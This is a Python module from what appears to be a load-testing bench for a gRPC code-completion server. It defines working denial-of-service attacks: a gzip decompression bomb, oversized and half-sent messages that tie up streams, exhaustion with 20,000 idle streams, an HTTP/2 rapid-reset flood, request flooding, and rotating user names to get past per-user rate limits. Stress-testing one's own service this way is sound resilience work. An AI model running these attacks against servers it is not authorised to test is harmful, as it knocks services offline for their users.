"""The attacks. A new one is a class here, and a name in ATTACKS."""

import asyncio
import gzip
import itertools
from abc import ABC, abstractmethod
from collections import Counter
from collections.abc import Mapping
from typing import ClassVar

from completion.v1 import completion_pb2 as pb
from loadtest.bench.attacks.http2 import Http2Connection, Stream, framed

_MIB = 1024 * 1024
_RESOURCE_EXHAUSTED = 8
_ANSWER_S = 5.0
_SMALLEST_BYTES = 4096
_LARGEST_BYTES = 16 * _MIB - 1024

_BOMB_EVERY_S = 0.5
_EMPTY_SNIPPET = b"\x3a\x00"
_LONG_CALLERS, _LONG_BYTES = 4, 15 * _MIB
_HALF_STREAMS, _HELD_S = 24, 3600.0
_IDLE_STREAMS, _IDLE_CONNECTIONS = 20_000, 16
_OPENED_AT_ONCE, _OPENING_PAUSE_S = 500, 0.05
_RESETS, _RESETS_EVERY_S, _RESET_AT_ONCE = 20_000, 2.0, 200
_FLOOD_PREFIX, _FLOOD_PAUSE_EVERY = "x = 1\n" * 1_000, 20
_BIG_PER_S, _BIG_LINES = 20, 1500


class Attack(ABC):
    """An attack on a server, which runs until it ends or is cancelled."""

    name: ClassVar[str]
    """Name on the command line."""
    about: ClassVar[str]
    """One-line description."""
    overrides: ClassVar[tuple[str, ...]] = ()
    """Settings of the server that the attack needs."""

    def __init__(self, address: str) -> None:
        """Attack the server at HOST:PORT."""
        self.address = address
        self.counts: Counter[str] = Counter()
        """Counts of the attack's actions and their results, for the report."""

    @abstractmethod
    async def run(self) -> None:
        """Attack until cancelled. A lost connection (OSError) restarts the attack."""

    async def keep_on(self) -> None:
        """Run, and restart when the server closes the connection."""
        while True:
            try:
                await self.run()
            except* OSError:
                self.counts["connections_lost"] += 1
            await asyncio.sleep(0.01)

    def count_end(self, stream: Stream) -> None:
        """Count the end of a call."""
        self.counts[f"status_{'none' if stream.status in {None, -1} else stream.status}"] += 1


async def largest_accepted(connection: Http2Connection, first_bytes: int, message_of: "MessageOf") -> int:
    """Return the size of a message that the server accepts: `first_bytes`, halved until it is not too large.

    An attacker would find that out too.
    """
    size = first_bytes
    while size > _SMALLEST_BYTES:
        stream = connection.call("Complete", message_of.metadata)
        await stream.send(message_of(size), ends=True)
        await stream.ended(2 * _ANSWER_S)
        if stream.status != _RESOURCE_EXHAUSTED or "larger than max" not in stream.details:
            break
        size //= 2
    return size


class MessageOf(ABC):
    """Makes a hostile message of about a given size, framed."""

    metadata: tuple[tuple[str, str], ...] = ()

    @abstractmethod
    def __call__(self, size: int) -> bytes:
        """Return the bytes that go on the wire."""


class Bomb(MessageOf):
    """A request with as many empty snippets as fit."""

    metadata = (("grpc-encoding", "gzip"),)

    def __call__(self, size: int) -> bytes:
        """Return the bytes that go on the wire."""
        head = pb.CompleteRequest(session_id="bomb", sequence=1, prefix="x = ").SerializeToString()
        message = head + _EMPTY_SNIPPET * ((size - len(head)) // len(_EMPTY_SNIPPET))
        return framed(gzip.compress(message), is_compressed=True)


class SnippetBomb(Attack):
    """Two bombs a second."""

    name = "snippet_bomb"
    about = "2 messages/s of empty snippets, 16 MiB that gzip to 16 KiB"

    async def run(self) -> None:
        """See Attack."""
        connection = await Http2Connection.open(self.address)
        bomb = Bomb()
        size = await largest_accepted(connection, _LARGEST_BYTES, bomb)
        self.counts["message_kib"] = size // 1024
        data = bomb(size)
        while connection.is_open:
            stream = connection.call("Complete", bomb.metadata)
            await stream.send(data, ends=True)
            self.counts["sent"] += 1
            await asyncio.sleep(_BOMB_EVERY_S)
            await stream.ended(_ANSWER_S)
            self.count_end(stream)


class LongPrefix(MessageOf):
    """A request with a prefix that fills a message of the given size."""

    def __call__(self, size: int) -> bytes:
        """Return the bytes that go on the wire."""
        return framed(pb.CompleteRequest(session_id="long", sequence=1, prefix="x" * size).SerializeToString())


class RefusedPrefixes(Attack):
    """Four callers, each with a connection of its own, one request after another."""

    name = "refused_prefixes"
    about = "4 callers in a loop, each with a prefix of 15 MiB (or the server's limit)"

    async def run(self) -> None:
        """See Attack."""
        async with asyncio.TaskGroup() as group:
            for _ in range(_LONG_CALLERS):
                group.create_task(self._call_on())

    async def _call_on(self) -> None:
        connection = await Http2Connection.open(self.address)
        long_prefix = LongPrefix()
        size = await largest_accepted(connection, _LONG_BYTES, long_prefix)
        self.counts["message_kib"] = size // 1024
        data = long_prefix(size)
        while connection.is_open:
            stream = connection.call("Complete")
            await stream.send(data, ends=True)
            self.counts["sent"] += 1
            await stream.ended(_ANSWER_S)
            self.count_end(stream)


class HalfMessages(Attack):
    """24 streams on one connection, half of them sessions; one that the server ends is opened again."""

    name = "half_messages"
    about = "24 streams on one connection, each with a message of 16 MiB (or the server's limit) less a byte"

    async def run(self) -> None:
        """See Attack."""
        connection = await Http2Connection.open(self.address)
        size = await largest_accepted(connection, _LARGEST_BYTES, LongPrefix())
        self.counts["message_kib"] = size // 1024
        data = LongPrefix()(size)[:-1]
        async with asyncio.TaskGroup() as group:
            for number in range(_HALF_STREAMS):
                group.create_task(self._hold(connection, "Session" if number % 2 else "Complete", data))

    async def _hold(self, connection: Http2Connection, method: str, data: bytes) -> None:
        while connection.is_open:
            stream: Stream = connection.call(method)
            self.counts["held" if await stream.send(data) else "cut"] += 1
            await stream.ended(_HELD_S)
            self.count_end(stream)


class IdleSessions(Attack):
    """20,000 streams on one connection, or as many as the server allows on 16."""

    name = "idle_sessions"
    about = "20,000 Session streams without a request, on one connection (or as many as the server allows on 16)"

    async def run(self) -> None:
        """See Attack."""
        connections: list[Http2Connection] = []
        streams: list[Stream] = []
        for _ in range(_IDLE_CONNECTIONS):
            connection = await Http2Connection.open(self.address)
            connections.append(connection)
            self.counts["connections"] = len(connections)
            while (
                len(streams) < _IDLE_STREAMS and connection.is_open and connection.num_streams < connection.max_streams
            ):
                streams.append(connection.call("Session"))
                if len(streams) % _OPENED_AT_ONCE == 0:
                    await connection.drain()
                    await asyncio.sleep(_OPENING_PAUSE_S)
            await connection.drain()
            if len(streams) >= _IDLE_STREAMS:
                break
        while any(connection.is_open for connection in connections):
            self.counts["held"] = sum(stream.status is None for stream in streams)
            await asyncio.sleep(_OPENING_PAUSE_S)


class Resets(Attack):
    """Bursts of 20,000 calls on one connection, each with a request and a reset."""

    name = "resets"
    about = "20,000 calls opened and reset as fast as the connection takes them, every 2 s"

    async def run(self) -> None:
        """See Attack."""
        connection = await Http2Connection.open(self.address)
        data = framed(pb.CompleteRequest(session_id="reset", sequence=1, prefix="x = ").SerializeToString())
        while connection.is_open:
            for number in range(_RESETS):
                stream = connection.call("Complete")
                await stream.send(data, ends=True)
                stream.reset()
                self.counts["reset"] += 1
                if number % _RESET_AT_ONCE == 0:
                    await asyncio.sleep(0)
                if not connection.is_open:
                    break
            await asyncio.sleep(_RESETS_EVERY_S)


class Flood(Attack):
    """Valid requests of 6 KB on one stream, without waiting for any answer."""

    name = "flood"
    about = "one Session stream with valid requests of 6 KB, as fast as the server reads"

    async def run(self) -> None:
        """See Attack."""
        connection = await Http2Connection.open(self.address)
        stream = connection.call("Session")
        sequence = 0
        while stream.status is None:
            sequence += 1
            request = pb.CompleteRequest(session_id="flood", sequence=sequence, prefix=_FLOOD_PREFIX)
            await stream.send(framed(pb.SessionRequest(complete=request).SerializeToString()))
            self.counts["sent"] += 1
            if sequence % _FLOOD_PAUSE_EVERY == 0:
                await asyncio.sleep(0)
        self.count_end(stream)
        await connection.aclose()


class BigPrompts(Attack):
    """20 explicit requests a second with a new document each, long enough to fill any prompt."""

    name = "big_prompts"
    about = "one user asks 20 times a second, EXPLICIT, each time with a new document that fills the prompt"
    overrides = ("engine.max_model_len=4096", "prompt.max_prompt_tokens=3000")
    users = 1

    async def run(self) -> None:
        """See Attack."""
        connection = await Http2Connection.open(self.address)
        async with asyncio.TaskGroup() as group:
            for sequence in itertools.count(1):
                group.create_task(self._ask(connection, sequence))
                await asyncio.sleep(1 / _BIG_PER_S)
                if not connection.is_open:
                    return

    async def _ask(self, connection: Http2Connection, sequence: int) -> None:
        user = f"user-{sequence % self.users}"
        request = pb.CompleteRequest(
            session_id=user,
            sequence=sequence,
            document_uri=f"file:///{sequence}.py",
            language_id="python",
            prefix="".join(f"value_{sequence}_{line} = {line}\n" for line in range(_BIG_LINES)),
            trigger=pb.TRIGGER_EXPLICIT,
            mode=pb.MODE_MULTI_LINE,
        )
        stream = connection.call("Complete", (("x-user-id", user),))
        await stream.send(framed(request.SerializeToString()), ends=True)
        self.counts["sent"] += 1
        await stream.ended(5.0)
        self.count_end(stream)


class ManyNames(BigPrompts):
    """The same under many names: a limit for each user lets all of them pass."""

    name = "many_names"
    about = "the same under 200 user names, from one address"
    users = 200


ATTACKS: Mapping[str, type[Attack]] = {
    attack.name: attack
    for attack in (
        SnippetBomb,
        RefusedPrefixes,
        HalfMessages,
        IdleSessions,
        Resets,
        Flood,
        BigPrompts,
        ManyNames,
    )
}
